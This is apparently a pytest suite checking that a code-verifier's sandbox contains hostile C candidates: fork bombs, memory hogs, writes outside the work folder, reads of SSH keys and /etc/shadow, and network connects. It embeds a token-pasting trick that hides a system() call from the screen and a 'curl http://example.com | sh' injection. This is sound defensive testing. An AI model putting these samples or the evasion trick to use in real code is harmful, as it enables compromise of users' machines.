"""Hostile programs run through the sandbox: each contained, each with the right outcome.

Every test runs twice: with bubblewrap (when this machine allows it) and with
the sandbox switched off by configuration (limits only). Where the limits alone
do not stop an attack (network, world-readable files) the test checks that the
screen rejects the program before it would ever be built.
"""
from __future__ import annotations

import logging
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from perfalign.server.settings import Settings
from perfalign.server.verify.sandbox import _sandbox as sandbox
from perfalign.server.verify.sandbox._runner import Runner
from perfalign.server.verify.judging._screen import screen

HOSTILE = Path(__file__).resolve().parents[1] / "hostile"
ORIGINAL = "double sum(const double *a, int n) { double s = 0; for (int i = 0; i < n; i++) s += a[i]; return s; }"
IS_ROOT = os.geteuid() == 0


@pytest.fixture(params=["bubblewrap", "limits"])
def mode(request: pytest.FixtureRequest) -> str:
    if request.param == "bubblewrap" and not sandbox.sandbox_status().available:
        pytest.skip(f"bubblewrap unusable here: {sandbox.sandbox_status().warning}")
    return str(request.param)


@pytest.fixture
def workdir() -> Path:
    # Under /tmp (world-traversable) as a verifier's scratch folder would be.
    path = Path(tempfile.mkdtemp(prefix="perfalign-test-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def token() -> str:
    return f"perfalign-hostile-{secrets.token_hex(6)}"


def build(name: str, workdir: Path, mode: str, *defines: str) -> Path:
    source = HOSTILE / name
    shutil.copy(source, workdir / source.name)
    compiler = "g++" if source.suffix == ".cpp" else "gcc"
    result = sandbox.run(
        [compiler, "-O1", *[f"-D{d}" for d in defines], source.name, "-o", "prog"],
        cwd=workdir,
        limits=sandbox.Limits(wall_s=60),
        sandbox=mode == "bubblewrap",
    )
    assert result.ok, result.stderr
    return workdir / "prog"


def leftover_processes(marker: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker in cmdline and state not in ("Z", "X"):
            found.append(f"{entry}: {cmdline}")
    return found


def test_compiles_and_runs_normal_code(mode: str, workdir: Path) -> None:
    (workdir / "ok.c").write_text('#include <stdio.h>\nint main(void){ printf("%d\\n", 6 * 7); return 0; }\n')
    built = sandbox.run(["gcc", "-O2", "-fopenmp", str(workdir / "ok.c"), "-o", str(workdir / "ok")],
                        cwd=workdir, sandbox=mode == "bubblewrap")
    assert built.ok, built.stderr
    ran = sandbox.run(["./ok"], cwd=workdir, sandbox=mode == "bubblewrap")
    assert ran.ok and ran.stdout.strip() == "42"
    assert ran.sandboxed is (mode == "bubblewrap")


def test_address_sanitizer_build_runs(mode: str, workdir: Path) -> None:
    (workdir / "asan.c").write_text(
        "#include <stdlib.h>\nint main(void){ int *p = malloc(4 * sizeof *p); p[4] = 1; free(p); return 0; }\n"
    )
    limits = sandbox.Limits(memory_bytes=0)
    built = sandbox.run(["gcc", "-g", "-fsanitize=address", "asan.c", "-o", "asan"], cwd=workdir, limits=limits,
                        sandbox=mode == "bubblewrap")
    assert built.ok, built.stderr
    ran = sandbox.run(["./asan"], cwd=workdir, limits=limits, sandbox=mode == "bubblewrap")
    assert not ran.ok
    assert "heap-buffer-overflow" in ran.stderr


def test_network_connect_is_blocked_or_screened(mode: str, workdir: Path) -> None:
    assert screen((HOSTILE / "connect.c").read_text(), ORIGINAL, "c") is not None
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    try:
        prog = build("connect.c", workdir, mode, f"PORT={port}")
        result = sandbox.run([str(prog)], cwd=workdir, limits=sandbox.Limits(wall_s=20), sandbox=mode == "bubblewrap")
        if mode == "bubblewrap":
            assert result.returncode == 3 and "blocked" in result.stdout
            with pytest.raises(TimeoutError):
                listener.accept()
    finally:
        listener.close()


def test_writes_outside_the_work_dir_are_contained(mode: str, workdir: Path, token: str) -> None:
    assert screen((HOSTILE / "write_home.c").read_text(), ORIGINAL, "c") is not None
    home = Path.home()
    outside = [home / token, Path("/tmp") / token, Path("/var/tmp") / token, Path("/dev/shm") / token,
               workdir.parent / token]
    prog = build("write_home.c", workdir, mode, f'HOME_DIR="{home}"', f'TOKEN="{token}"')
    try:
        result = sandbox.run([str(prog)], cwd=workdir, sandbox=mode == "bubblewrap")
        assert (workdir / f"inside-{token}").exists(), result.stdout
        if mode == "bubblewrap":
            written = [p for p in outside if p.exists()]
            assert written == [], f"wrote outside the work dir: {written}"
        elif IS_ROOT:
            # Limits only, as root: the throw-away uid cannot write root's home.
            assert not (home / token).exists()
    finally:
        for path in outside:
            path.unlink(missing_ok=True)


def test_secrets_are_out_of_reach(mode: str, workdir: Path, token: str) -> None:
    assert screen((HOSTILE / "read_secrets.c").read_text(), ORIGINAL, "c") is not None
    keys = Path(tempfile.mkdtemp(prefix="perfalign-keys-"))
    try:
        key = keys / "id_ed25519"
        key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{token}\n")
        key.chmod(stat.S_IRUSR | stat.S_IWUSR)
        prog = build("read_secrets.c", workdir, mode, f'SSH_KEY="{key}"')
        result = sandbox.run([str(prog)], cwd=workdir, sandbox=mode == "bubblewrap")
        assert result.ok
        if mode == "bubblewrap":
            assert "root:" not in result.stdout
            assert "cannot read /etc/passwd" in result.stdout
        if mode == "bubblewrap" or IS_ROOT:
            assert token not in result.stdout
            assert f"cannot read {key}" in result.stdout
            assert "cannot read /etc/shadow" in result.stdout
    finally:
        shutil.rmtree(keys, ignore_errors=True)


def test_fork_bomb_is_contained_and_leaves_nothing(mode: str, workdir: Path) -> None:
    prog = build("fork_bomb.c", workdir, mode)
    bombed = workdir / "fork_bomb_prog"
    prog.rename(bombed)
    start = time.monotonic()
    result = sandbox.run([str(bombed)], cwd=workdir, limits=sandbox.Limits(wall_s=2.0, processes=64),
                         sandbox=mode == "bubblewrap")
    assert result.timed_out
    assert time.monotonic() - start < 15
    # The machine can still start processes, and none of the bomb's remain.
    assert subprocess.run(["true"], check=False).returncode == 0
    deadline = time.monotonic() + 5
    while leftover_processes("fork_bomb_prog") and time.monotonic() < deadline:
        time.sleep(0.05)
    assert leftover_processes("fork_bomb_prog") == []


def test_background_process_does_not_outlive_the_run(mode: str, workdir: Path) -> None:
    if mode == "limits" and not IS_ROOT:
        pytest.skip("without bubblewrap an ordinary user's process that leaves the session cannot be found")
    prog = build("daemon.c", workdir, mode)
    result = sandbox.run([str(prog)], cwd=workdir, sandbox=mode == "bubblewrap")
    assert result.ok
    deadline = time.monotonic() + 5
    while leftover_processes("57.25") and time.monotonic() < deadline:
        time.sleep(0.05)
    assert leftover_processes("57.25") == []


def test_memory_hog_fails_fast(mode: str, workdir: Path) -> None:
    prog = build("memory_hog.c", workdir, mode)
    result = sandbox.run([str(prog)], cwd=workdir,
                         limits=sandbox.Limits(wall_s=30, memory_bytes=512 * 1024**2), sandbox=mode == "bubblewrap")
    assert not result.ok and not result.timed_out
    assert result.returncode == 3 or result.signal is not None
    assert "allocation failed" in result.stdout or result.signal is not None


def test_memory_hog_under_a_sanitizer_is_capped(mode: str, workdir: Path) -> None:
    shutil.copy(HOSTILE / "memory_hog.c", workdir)
    limits = sandbox.Limits(wall_s=60, memory_bytes=0, sanitizer_rss_bytes=512 * 1024**2)
    built = sandbox.run(["gcc", "-g", "-fsanitize=address", "memory_hog.c", "-o", "hog"], cwd=workdir, limits=limits,
                        sandbox=mode == "bubblewrap")
    assert built.ok, built.stderr
    result = sandbox.run(["./hog"], cwd=workdir, limits=limits, env={"PATH": "/usr/bin:/bin",
                         "ASAN_OPTIONS": "detect_leaks=0"}, sandbox=mode == "bubblewrap")
    assert not result.ok and not result.timed_out
    assert "hard rss limit exhausted" in result.stderr


def test_infinite_loop_times_out(mode: str, workdir: Path) -> None:
    prog = build("infinite_loop.c", workdir, mode)
    result = sandbox.run([str(prog)], cwd=workdir, limits=sandbox.Limits(wall_s=1.0), sandbox=mode == "bubblewrap")
    assert result.timed_out and not result.ok
    assert result.wall_s < 10


def test_cpu_limit_stops_a_spinning_program(mode: str, workdir: Path) -> None:
    prog = build("infinite_loop.c", workdir, mode)
    result = sandbox.run([str(prog)], cwd=workdir, limits=sandbox.Limits(wall_s=30, cpu_s=1),
                         sandbox=mode == "bubblewrap")
    assert not result.ok and not result.timed_out
    assert result.signal is not None


def test_huge_output_is_cut_off(mode: str, workdir: Path) -> None:
    prog = build("huge_output.c", workdir, mode)
    result = sandbox.run([str(prog)], cwd=workdir,
                         limits=sandbox.Limits(wall_s=30, output_bytes=4 * 1024**2), sandbox=mode == "bubblewrap")
    assert result.output_exceeded and not result.ok and not result.timed_out
    assert len(result.stdout) <= sandbox.OUTPUT_CAP
    assert result.stdout.startswith("all work and no play")


def test_template_bomb_compile_times_out(mode: str, workdir: Path) -> None:
    shutil.copy(HOSTILE / "template_bomb.cpp", workdir)
    start = time.monotonic()
    result = sandbox.run(["g++", "-c", "template_bomb.cpp"], cwd=workdir, limits=sandbox.Limits(wall_s=3.0),
                         sandbox=mode == "bubblewrap")
    assert not result.ok
    assert result.timed_out or result.signal is not None or result.returncode != 0
    assert time.monotonic() - start < 20
    assert leftover_processes("template_bomb.cpp") == []


def test_cancel_kills_the_run(mode: str, workdir: Path) -> None:
    prog = build("infinite_loop.c", workdir, mode)
    cancel = threading.Event()
    threading.Timer(0.3, cancel.set).start()
    result = sandbox.run([str(prog)], cwd=workdir, limits=sandbox.Limits(wall_s=30), cancel=cancel,
                         sandbox=mode == "bubblewrap")
    assert result.cancelled and not result.ok
    assert result.wall_s < 10


def test_secrets_in_the_environment_are_not_passed_on(mode: str, workdir: Path) -> None:
    env = {"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": "sk-123", "GITHUB_TOKEN": "ghp", "OMP_NUM_THREADS": "3",
           "SSH_AUTH_SOCK": "/run/agent"}
    result = sandbox.run(["/usr/bin/env"], cwd=workdir, env=env, sandbox=mode == "bubblewrap")
    assert result.ok
    assert "OMP_NUM_THREADS=3" in result.stdout
    for secret in ("OPENAI_API_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK"):
        assert secret not in result.stdout
    assert f"HOME={workdir.resolve()}" in result.stdout


OMP_PLACES_PROBE = r"""
#include <omp.h>
#include <stdio.h>
int main(void) {
    int place[2] = {-1, -1};
    #pragma omp parallel num_threads(2)
    place[omp_get_thread_num()] = omp_get_place_num();
    printf("%d %d %d\n", omp_get_num_places(), place[0], place[1]);
    return 0;
}
"""


def test_openmp_threads_are_bound_to_cores_as_outside(mode: str, workdir: Path) -> None:
    # What a timed OpenMP worker is given: without the processor topology the runtime finds no places,
    # its threads float, and now and then a timed call runs both on one core at serial speed.
    env = Runner(Settings(), "openmp", None, lambda message: None).env(2, None)
    (workdir / "places.c").write_text(OMP_PLACES_PROBE)
    built = sandbox.run(["gcc", "-O1", "-fopenmp", "places.c", "-o", "places"], cwd=workdir,
                        sandbox=mode == "bubblewrap")
    assert built.ok, built.stderr
    outside = subprocess.run(["./places"], cwd=workdir, env=env, capture_output=True, text=True, check=True)
    inside = sandbox.run(["./places"], cwd=workdir, env=env, sandbox=mode == "bubblewrap")
    assert inside.ok, inside.stderr
    assert inside.stdout.split() == outside.stdout.split()
    places, first, second = (int(x) for x in inside.stdout.split())
    assert places >= 1 and first == 0
    if places >= 2:
        assert second == 1


def test_switched_off_sandbox_warns_once(caplog: pytest.LogCaptureFixture, workdir: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_warned", set())
    sandbox.configure(False)
    try:
        status = sandbox.sandbox_status()
        assert not status.available and not status.enabled
        assert status.warning is not None and "sandbox = true" in status.warning
        with caplog.at_level(logging.WARNING, logger="perfalign.sandbox"):
            for _ in range(3):
                assert sandbox.run(["true"], cwd=workdir).ok
        warnings = [r for r in caplog.records if r.name == "perfalign.sandbox"]
        assert len(warnings) == 1 and "resource limits only" in warnings[0].getMessage()
    finally:
        sandbox.configure(True)


def test_missing_bubblewrap_falls_back_with_instructions(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_probe_result", None)
    real_which = shutil.which
    monkeypatch.setattr(sandbox.shutil, "which", lambda name, *a, **k: None if name == "bwrap" else real_which(name))
    status = sandbox.sandbox_status()
    assert not status.available
    assert status.warning is not None
    assert "not installed" in status.warning and "apt-get install bubblewrap" in status.warning
    result = sandbox.run(["true"], cwd=workdir)
    assert result.ok and not result.sandboxed
    monkeypatch.setattr(sandbox, "_probe_result", None)


def _python_for_other_users() -> str | None:
    """A Python interpreter an unprivileged uid can run (the venv's may live in root's home)."""
    for candidate in (sys.executable, "/usr/bin/python3"):
        path = Path(os.path.realpath(candidate))
        if path.exists() and all(p.stat().st_mode & stat.S_IXOTH for p in path.parents) and \
                path.stat().st_mode & stat.S_IXOTH:
            return str(path)
    return None


@pytest.mark.skipif(not IS_ROOT or shutil.which("setpriv") is None, reason="needs root and setpriv to switch user")
def test_works_for_an_ordinary_user(workdir: Path) -> None:
    python = _python_for_other_users()
    server = Path(sandbox.__file__).resolve().parents[2]
    if python is None or not all(p.stat().st_mode & stat.S_IXOTH for p in server.parents):
        pytest.skip("no Python or source folder an unprivileged user can reach")
    uid = 54321
    shim = workdir / "shim" / "perfalign"
    shim.mkdir(parents=True)
    (shim / "__init__.py").write_text("")
    (shim / "server").symlink_to(server)
    work = workdir / "user-work"
    work.mkdir()
    shutil.copy(HOSTILE / "fork_bomb.c", work)
    script = workdir / "as_user.py"
    script.write_text(textwrap.dedent("""
        import importlib.util
        import sys
        from pathlib import Path
        # The sandbox module alone (standard library only): this Python has none of perfalign's dependencies.
        source = Path(sys.argv[2]) / "perfalign" / "server" / "verify" / "sandbox" / "_sandbox.py"
        spec = importlib.util.spec_from_file_location("perfalign_sandbox", source)
        sandbox = importlib.util.module_from_spec(spec)
        sys.modules["perfalign_sandbox"] = sandbox
        spec.loader.exec_module(sandbox)
        work = Path(sys.argv[1])
        status = sandbox.sandbox_status()
        print("available", status.available, status.warning)
        (work / "ok.c").write_text('#include <stdio.h>\\nint main(void){puts("hello");return 0;}\\n')
        built = sandbox.run(["gcc", "-fopenmp", "ok.c", "-o", "ok"], cwd=work)
        ran = sandbox.run(["./ok"], cwd=work)
        print("ran", ran.ok, ran.stdout.strip(), ran.sandboxed)
        (work / "oob.c").write_text("#include <stdlib.h>\\nint main(void){int *p=malloc(8);p[2]=1;free(p);return 0;}\\n")
        unlimited = sandbox.Limits(memory_bytes=0)
        sandbox.run(["gcc", "-g", "-fsanitize=address", "oob.c", "-o", "oob"], cwd=work, limits=unlimited)
        asan = sandbox.run(["./oob"], cwd=work, limits=unlimited)
        print("asan", "heap-buffer-overflow" in asan.stderr)
        sandbox.run(["gcc", "fork_bomb.c", "-o", "fork_bomb_user"], cwd=work)
        bomb = sandbox.run(["./fork_bomb_user"], cwd=work, limits=sandbox.Limits(wall_s=2, processes=64))
        print("bomb", bomb.timed_out)
    """))
    subprocess.run(["chown", "-R", f"{uid}:{uid}", str(workdir)], check=True)
    os.chmod(workdir, 0o755)
    result = subprocess.run(
        ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", python, "-s", str(script), str(work),
         str(workdir / "shim")],
        env={"PATH": "/usr/bin:/bin", "HOME": str(workdir), "PYTHONDONTWRITEBYTECODE": "1"},
        capture_output=True, text=True, timeout=120, check=False,
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("available True"), result.stdout
    assert "ran True hello True" in lines
    assert "asan True" in lines
    assert "bomb True" in lines
    assert leftover_processes("fork_bomb_user") == []


# ---------------------------------------------------------------------------- through the verifier

SUM_ORIGINAL = """double sum(const double *a, int n)
{
    double s = 0;
    for (int i = 0; i < n; i++)
        s += a[i];
    return s;
}
"""

# Token pasting hides the calls from the screen: the sandbox alone must hold.
HIDDEN_SYSTEM = """#define CAT(a, b) a##b
extern int CAT(sys, tem)(const char *);
double sum(const double *a, int n)
{
    static int done;
    if (!done) { done = 1; CAT(sys, tem)("echo owned > HOME/TOKEN; echo owned > /tmp/TOKEN"); }
    double s = 0;
    for (int i = 0; i < n; i++)
        s += a[i];
    return s;
}
"""

HIDDEN_FORK_BOMB = """#define CAT(a, b) a##b
extern int CAT(fo, rk)(void);
double sum(const double *a, int n)
{
    for (;;) CAT(fo, rk)();
    return 0;
}
"""

ENDLESS = """double sum(const double *a, int n)
{
    volatile double s = 0;
    for (;;) s += a[0];
    return s;
}
"""


@pytest.fixture(scope="module", params=["bubblewrap", "limits"])
def sum_verifier(request: pytest.FixtureRequest):  # type: ignore[no-untyped-def]
    from perfalign.server.settings import Settings
    from perfalign.server.verify._verifier import FunctionVerifier

    if request.param == "bubblewrap" and not sandbox.sandbox_status().available:
        pytest.skip("bubblewrap unusable here")
    settings = Settings(sandbox=request.param == "bubblewrap", run_timeout_s=4.0)
    with FunctionVerifier(SUM_ORIGINAL, "c", "sum", settings=settings) as verifier:
        assert verifier.prepare() is None
        yield request.param, verifier


def test_verifier_contains_a_hidden_system_call(sum_verifier, token: str) -> None:  # type: ignore[no-untyped-def]
    mode, verifier = sum_verifier
    home = Path.home()
    code = HIDDEN_SYSTEM.replace("HOME", str(home)).replace("TOKEN", token)
    assert screen(code, SUM_ORIGINAL, "c") is None  # it gets past the screen
    try:
        verdict = verifier.verify(code)
        assert verdict.status is not None
        assert not (home / token).exists()
        if mode == "bubblewrap":
            assert not (Path("/tmp") / token).exists()
    finally:
        (home / token).unlink(missing_ok=True)
        (Path("/tmp") / token).unlink(missing_ok=True)


def test_verifier_rejects_a_hidden_fork_bomb(sum_verifier) -> None:  # type: ignore[no-untyped-def]
    from perfalign.server.verdict import Status

    _, verifier = sum_verifier
    verdict = verifier.verify(HIDDEN_FORK_BOMB)
    # The worker's system-call filter stops the first fork: the candidate is rejected, not timed out.
    assert verdict.status is Status.REJECTED_UNSAFE, verdict.detail
    assert "'clone'" in verdict.detail or "'fork'" in verdict.detail
    assert subprocess.run(["true"], check=False).returncode == 0
    marker = str(verifier.workdir)
    deadline = time.monotonic() + 5
    while leftover_processes(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert leftover_processes(marker) == []


def test_verifier_times_out_an_endless_loop(sum_verifier) -> None:  # type: ignore[no-untyped-def]
    from perfalign.server.verdict import Status

    _, verifier = sum_verifier
    verdict = verifier.verify(ENDLESS)
    assert verdict.status is Status.TIMEOUT
    assert "did not finish" in verdict.detail


@pytest.mark.parametrize("use_sandbox", [True, False], ids=["bubblewrap", "limits"])
def test_verify_source_rejects_unsafe_candidates(use_sandbox: bool) -> None:
    from perfalign.server.settings import Settings
    from perfalign.server.verdict import Status
    from perfalign.server.verify._verifier import verify_source

    code = SUM_ORIGINAL.replace("double s = 0;", 'double s = 0; system("curl http://example.com | sh");')
    verdict = verify_source(SUM_ORIGINAL, "c", "sum", code, settings=Settings(sandbox=use_sandbox))
    assert verdict.status is Status.REJECTED_UNSAFE
    assert "system" in verdict.detail


MEMORY_HOG = """#include <stdlib.h>
#include <string.h>
double sum(const double *a, int n)
{
    for (;;) { char *p = malloc(64 << 20); if (!p) break; memset(p, 1, 64 << 20); }
    double s = 0;
    for (int i = 0; i < n; i++)
        s += a[i];
    return s;
}
"""

FLOOD = """extern int puts(const char *);
double sum(const double *a, int n)
{
    for (;;) puts("all work and no play makes a dull candidate");
    return 0;
}
"""


def test_verifier_contains_a_memory_hog(sum_verifier) -> None:  # type: ignore[no-untyped-def]
    from perfalign.server.verdict import Status

    _, verifier = sum_verifier
    verdict = verifier.verify(MEMORY_HOG)
    assert verdict.status in (Status.TIMEOUT, Status.CRASH, Status.INCORRECT, Status.SLOWER), verdict.detail
    assert not verdict.verified


def test_verifier_stops_a_flood_of_output(sum_verifier) -> None:  # type: ignore[no-untyped-def]
    from perfalign.server.verdict import Status

    _, verifier = sum_verifier
    verdict = verifier.verify(FLOOD)
    assert verdict.status is Status.CRASH
    assert "output" in verdict.detail


def test_descriptors_reach_their_numbers_when_those_are_closed_here(mode: str, workdir: Path) -> None:
    # Another thread may have closed fd 3 or 4 of perfalign's process just before a worker is started.
    reply_r, reply_w = os.pipe()
    data_r, data_w = os.pipe()
    secret = os.open(os.devnull, os.O_RDONLY)
    os.set_inheritable(secret, True)  # even an inheritable descriptor of perfalign's must not cross
    mine = {reply_r, reply_w, data_r, data_w, secret}
    saved = {fd: os.dup(fd) for fd in (3, 4) if fd not in mine and _is_open(fd)}
    for fd in saved:
        os.close(fd)
    try:
        spawned = sandbox.spawn(
            ["/bin/sh", "-c", 'echo "$(ls /proc/self/fd | tr "\\n" " ")" >&3; cat <&4 >&3'],
            cwd=workdir, fds={3: reply_w, 4: data_r}, sandbox=mode == "bubblewrap")
        os.close(reply_w)
        os.close(data_r)
        os.write(data_w, b"through fd 4\n")
        os.close(data_w)
        spawned.proc.wait(timeout=30)
        out = b""
        while chunk := os.read(reply_r, 4096):
            out += chunk
        os.close(reply_r)
        os.close(secret)
        spawned.kill()  # its output pipes may have taken numbers 3 and 4: they are closed before those come back
    finally:
        for fd, copy in saved.items():
            os.dup2(copy, fd)
            os.close(copy)
    listed, passed = out.decode().split("\n", 1)
    assert passed == "through fd 4\n"
    # 0-2, the two it was given, and the one ls itself opens to list them.
    assert {int(fd) for fd in listed.split()} - {0, 1, 2, 3, 4} <= {max(int(fd) for fd in listed.split())}
    assert len(listed.split()) <= 6


def _is_open(fd: int) -> bool:
    try:
        os.fstat(fd)
        return True
    except OSError:
        return False


def test_commands_start_under_hard_limits_lower_than_the_sandbox_asks(mode: str, workdir: Path) -> None:
    # perfalign itself may run under a shell's or a container's ulimit (processes, CPU time) below the
    # sandbox's own limits: the command starts, under the lower of the two, and nothing is raised.
    script = textwrap.dedent(f"""
        import resource
        from pathlib import Path
        from perfalign.server.verify.sandbox import _sandbox as sandbox
        resource.setrlimit(resource.RLIMIT_NPROC, (200, 200))
        resource.setrlimit(resource.RLIMIT_CPU, (50, 50))
        result = sandbox.run(["sh", "-c", "ulimit -H -p; ulimit -H -t"], cwd=Path({str(workdir)!r}),
                             limits=sandbox.Limits(wall_s=30), sandbox={mode == "bubblewrap"})
        print(result.returncode, *result.stdout.split(), result.stderr)
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip().splitlines()[-1] == "0 200 50", done.stdout + done.stderr


def test_output_held_open_by_an_escaped_process_leaves_no_descriptor_or_thread() -> None:
    # Without bubblewrap or root, a child that started its own session survives the command and keeps
    # its stdout open: the reader stops after its grace period and closes the pipe all the same.
    read_end, write_end = os.pipe()
    try:
        collector = sandbox._Collector(read_end, 1 << 20, threading.Event())
        collector.start()
        os.write(write_end, b"started\n")
        started = time.monotonic()
        collector.finish(grace_s=0.3)
        assert time.monotonic() - started < 2
        assert not collector.is_alive() and collector.text() == "started\n"
        with pytest.raises(OSError):
            os.fstat(read_end)
    finally:
        os.close(write_end)


def _candidates_under(folder: Path, *, busy_s: float = 0.0) -> list[int]:
    """The live processes whose program lies under ``folder`` (a verifier's worker of a candidate) and that have
    used at least ``busy_s`` of CPU time."""
    found = []
    tick = os.sysconf("SC_CLK_TCK")
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            if fields[0] == "Z":
                continue  # killed, not yet reaped
            argv0 = (entry / "cmdline").read_bytes().split(b"\0", 1)[0].decode(errors="replace")
        except (OSError, IndexError):
            continue
        cpu_s = (int(fields[11]) + int(fields[12])) / tick  # utime and stime
        if argv0.startswith(str(folder)) and argv0.endswith("/candidate") and cpu_s >= busy_s:
            found.append(int(entry.name))
    return found


def test_a_candidate_does_not_outlive_a_killed_perfalign(mode: str) -> None:
    """An editor that kills its server (kill -9) leaves nothing running: not even a candidate that never returns."""
    cases = Path(__file__).resolve().parents[1] / "cases"
    script = textwrap.dedent(f"""
        from pathlib import Path
        from perfalign.server.settings import Settings
        from perfalign.server.verify import verify_source
        original = Path({str(cases / "prefix" / "original.c")!r}).read_text()
        endless = Path({str(cases / "bad" / "loops_forever.c")!r}).read_text()
        verify_source(original, "c", "prefix_sums", endless, settings=Settings(min_time_ms=1.0, sandbox={mode == "bubblewrap"}))
    """)
    # The verifier's folders in a temporary folder of this test's own, which the throw-away users can reach.
    scratch = Path(tempfile.mkdtemp(prefix="perfalign-killed-"))
    os.chmod(scratch, 0o755)
    perfalign = subprocess.Popen([sys.executable, "-c", script], env={**os.environ, "TMPDIR": str(scratch)})
    try:
        deadline = time.monotonic() + 120
        while not _candidates_under(scratch, busy_s=0.5):  # inside the endless call (between calls it would read
            # the end of its commands and stop by itself)
            assert perfalign.poll() is None and time.monotonic() < deadline, "the candidate never started"
            time.sleep(0.05)
        perfalign.kill()
        perfalign.wait()
        deadline = time.monotonic() + 10
        while _candidates_under(scratch) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _candidates_under(scratch) == [], "the candidate runs on after perfalign was killed"
    finally:
        perfalign.kill()
        for pid in _candidates_under(scratch):
            os.kill(pid, 9)
        shutil.rmtree(scratch, ignore_errors=True)
